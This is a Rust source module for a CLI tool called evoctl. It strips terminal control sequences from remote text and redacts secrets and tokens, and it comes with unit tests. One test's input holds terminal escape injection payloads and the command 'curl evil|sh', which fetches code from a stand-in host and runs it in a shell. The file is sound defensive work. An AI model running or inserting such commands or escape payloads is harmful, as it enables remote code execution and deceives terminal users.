//! The gate for text that came from outside evoctl (Evolution's answers, a webhook receiver's
//! body and headers, container log lines, AWS error messages, task metadata) on its way to a
//! terminal, a log line or a JSON document.
//!
//! [`clean`] removes every control sequence (ESC sequences: CSI, OSC, DCS and the other string
//! sequences; C0 controls but tab and newline; DEL; C1 controls), so a remote party cannot retitle
//! the terminal, move the cursor or paint a fake "all good", and redacts every secret the process
//! holds or saw: the values handed to [`hold`] (webhook secrets read from SSM, session tokens,
//! `jwt_key`s and tokens found in Evolution's answers, the AWS keys in the environment), JWTs and
//! `Bearer` values. The printer runs it on everything it prints but the raw streams of `exec`,
//! `node` and `shell`, which are the remote command's own output by contract.
//!
//! [`quote`] is for putting remote text inside a message: [`clean`], then the values of
//! secret-named fields (`apikey`, `token`, `jwt_key`, `Authorization`, `password`, ...) redacted,
//! then cut to a length — redaction before truncation, so a secret split by the cut cannot
//! survive as a fragment.

use regex::Regex;
use secrecy::{ExposeSecret, SecretString};
use std::sync::{LazyLock, RwLock};

/// What a redacted value is replaced with.
pub const REDACTED: &str = "[redacted]";

/// Held secrets shorter than this are not looked for: they would redact ordinary words.
const MIN_SECRET_CHARS: usize = 6;

/// ESC sequences (CSI with its parameters, OSC/DCS/SOS/PM/APC strings up to their terminator or
/// the end, any other ESC and the character after it), C0 controls but tab and newline, DEL and
/// the C1 controls (U+0080 to U+009F, which some terminals obey as ESC sequences).
static CONTROL: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\x1b\[[0-?]*[ -/]*[@-~]?|\x1b[\]PX^_][^\x07\x1b]*(?:\x07|\x1b\\)?|\x1b.?|[\x00-\x08\x0b-\x1f\x7f\u{80}-\u{9f}]")
        .expect("static regex")
});
/// A JSON Web Token (three base64url parts, the first a JSON object).
static JWT: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"\beyJ[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]{2,}\.[A-Za-z0-9_-]*").expect("static regex"));
static BEARER: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"(?i)\b(Bearer|Basic)\s+[A-Za-z0-9._~+/=-]+").expect("static regex"));
/// A secret-named field and its value, in JSON, `util.inspect`, header or query form:
/// `"apikey":"X"`, `apikey: 'X'`, `Authorization: Bearer X`, `token=X`.
static SECRET_FIELD: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r#"(?i)(["']?\b(?:apikey|api_key|api-key|x-api-key|jwt_key|jwt_secret|authorization|token|access_token|session_token|secret|password|hash)["']?\s*[:=]\s*["']?)(?:\[redacted\]|(?:Bearer\s+|Basic\s+)?[^\s"',;&}\]]+)"#,
    )
    .expect("static regex")
});

/// Every secret this process holds or has seen.
static HELD: LazyLock<RwLock<Vec<SecretString>>> = LazyLock::new(|| RwLock::new(Vec::new()));

/// Remember `secret` so that no printed text, log line or JSON document ever shows it (nor its
/// percent-encoded or JSON-escaped form).
pub fn hold(secret: &str) {
    if secret.chars().count() < MIN_SECRET_CHARS {
        return;
    }
    let mut held = HELD.write().expect("held secrets");
    let mut forms = vec![secret.to_owned()];
    let percent = url::form_urlencoded::byte_serialize(secret.as_bytes()).collect::<String>();
    let escaped = serde_json::to_string(secret).expect("a string serialises");
    forms.push(percent);
    forms.push(escaped[1..escaped.len() - 1].to_owned());
    for form in forms {
        if !held.iter().any(|known| known.expose_secret() == form) {
            held.push(SecretString::from(form));
        }
    }
    // Longest first, so a secret that contains another is replaced whole.
    held.sort_by_key(|known| std::cmp::Reverse(known.expose_secret().len()));
}

/// Hold every string under a secret-named key of `value` (an answer from Evolution: `jwt_key`,
/// `token`, `apikey`, `hash`, `Authorization`, ...), however deep.
pub fn hold_fields(value: &serde_json::Value) {
    match value {
        serde_json::Value::Object(map) => {
            for (key, item) in map {
                match item {
                    serde_json::Value::String(text) if is_secret_name(key) => hold(text),
                    other => hold_fields(other),
                }
            }
        }
        serde_json::Value::Array(items) => items.iter().for_each(hold_fields),
        _ => {}
    }
}

/// Whether a field of this name holds a credential: `apikey`, `jwt_key`, `token`, `hash`
/// (create's instance token), `Authorization`, `secret`, `password`, or any `...token...` field
/// (`wavoipToken`, `accessTokenWaBusiness`).
fn is_secret_name(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    matches!(name.as_str(), "apikey" | "api_key" | "jwt_key" | "jwt_secret" | "hash" | "authorization")
        || name.contains("token")
        || name.ends_with("secret")
        || name.ends_with("password")
}

/// `text` with control sequences removed (tab and newline kept) and every held secret, JWT and
/// `Bearer` value redacted.
pub fn clean(text: &str) -> String {
    let text = CONTROL.replace_all(text, "");
    let mut text = text.into_owned();
    {
        let held = HELD.read().expect("held secrets");
        for secret in held.iter() {
            let secret = secret.expose_secret();
            if text.contains(secret) {
                text = text.replace(secret, REDACTED);
            }
        }
    }
    let text = JWT.replace_all(&text, REDACTED);
    BEARER.replace_all(&text, format!("${{1}} {REDACTED}").as_str()).into_owned()
}

/// Remote text for a message: [`clean`], secret-named fields redacted, then at most `max`
/// characters (saying how many were left out).
pub fn quote(text: &str, max: usize) -> String {
    let text = clean(text);
    let text = SECRET_FIELD.replace_all(&text, format!("${{1}}{REDACTED}").as_str());
    shorten(&text, max)
}

/// [`quote`] on one line: newlines and tabs become spaces.
pub fn quote_line(text: &str, max: usize) -> String {
    let text: String = text.chars().map(|c| if c == '\n' || c == '\t' { ' ' } else { c }).collect();
    quote(text.trim(), max)
}

/// `text` cut to `max` characters, saying how much was left out.
pub fn shorten(text: &str, max: usize) -> String {
    let count = text.chars().count();
    if count <= max {
        return text.to_owned();
    }
    let kept: String = text.chars().take(max).collect();
    format!("{kept}… ({} more characters)", count - max)
}

/// Every string in `value` [`clean`]ed (object keys too).
pub fn clean_json(value: serde_json::Value) -> serde_json::Value {
    use serde_json::Value;
    match value {
        Value::String(text) => Value::String(clean(&text)),
        Value::Array(items) => Value::Array(items.into_iter().map(clean_json).collect()),
        Value::Object(map) => Value::Object(map.into_iter().map(|(k, v)| (clean(&k), clean_json(v))).collect()),
        other => other,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn control_sequences_of_every_kind_are_removed() {
        let hostile = "\x1b]0;owned\x07\x1b[1;31mFAKE: all good\x1b[0m, run \u{9b}2J'curl evil|sh'\r\x1bPq#0\x1b\\ok\tkept\nline\x7f\x00\x1b";
        assert_eq!(clean(hostile), "FAKE: all good, run 2J'curl evil|sh'ok\tkept\nline");
        assert_eq!(clean("an OSC without its end \x1b]8;;http://x"), "an OSC without its end ");
    }

    #[test]
    fn held_secrets_and_their_encodings_are_redacted_before_the_cut() {
        hold("held-secret-value-0123/+=");
        assert_eq!(clean("a held-secret-value-0123/+= b"), "a [redacted] b");
        assert_eq!(clean("q=held-secret-value-0123%2F%2B%3D"), "q=[redacted]");
        hold("short");
        assert_eq!(clean("short"), "short", "too short to hold");
        // The cut comes after redaction: a secret at the edge is not left as a fragment.
        let text = format!("{}held-secret-value-0123/+= tail", "x".repeat(20));
        assert_eq!(quote(&text, 30), format!("{}[redacted]… (5 more characters)", "x".repeat(20)));
    }

    #[test]
    fn tokens_and_secret_fields_are_redacted() {
        let jwt = "eyJhbGciOiJIUzI1NiJ9.eyJpYXQiOjF9.c2lnbmF0dXJl";
        assert_eq!(clean(&format!("got {jwt}!")), "got [redacted]!");
        assert_eq!(clean("Authorization: Bearer abc.def"), "Authorization: Bearer [redacted]");
        assert_eq!(quote("?token=[redacted]&next=1", 100), "?token=[redacted]&next=1", "redacted once");
        assert_eq!(
            quote(r#"{"instance":{"apikey":"SECRET-INSTANCE-KEY-1","token":'x', "name":"n"}} jwt_key: k1"#, 200),
            r#"{"instance":{"apikey":"[redacted]","token":'[redacted]', "name":"n"}} jwt_key: [redacted]"#
        );
    }

    #[test]
    fn fields_of_an_answer_are_held() {
        hold_fields(
            &serde_json::json!([{"name": "n", "token": "B871BFCD-A3CC-4F7C", "headers": {"jwt_key": "answer-jwt-key"}}]),
        );
        assert_eq!(clean("B871BFCD-A3CC-4F7C and answer-jwt-key"), "[redacted] and [redacted]");
        assert_eq!(clean("n"), "n");
    }
}
